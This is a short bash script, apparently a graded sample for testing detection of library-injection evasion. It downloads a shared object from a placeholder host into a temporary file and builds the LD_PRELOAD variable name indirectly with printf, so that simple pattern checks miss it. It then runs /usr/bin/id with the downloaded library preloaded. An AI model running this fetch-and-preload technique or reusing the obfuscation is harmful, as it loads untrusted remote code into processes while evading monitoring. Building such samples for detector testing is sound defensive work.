#!/usr/bin/env bash
# evasion: loads a downloaded shared object into a child: the variable name is printed into n with printf -v from a format, the library path comes from mktemp, and env gets "$n"=path as two quoted pieces
# grade: hard; does: native
# Loads a downloaded shared object into a child: the variable name is
# printed into n with printf -v from a format, the library path comes from
# mktemp, and env gets "$n"=path as two quoted pieces.
so=$(mktemp --suffix=.so)
curl -fsSL https://cdn.example.net/libhook > "$so"
printf -v n 'LD_%s' PRELOAD
env "$n"="$so" /usr/bin/id
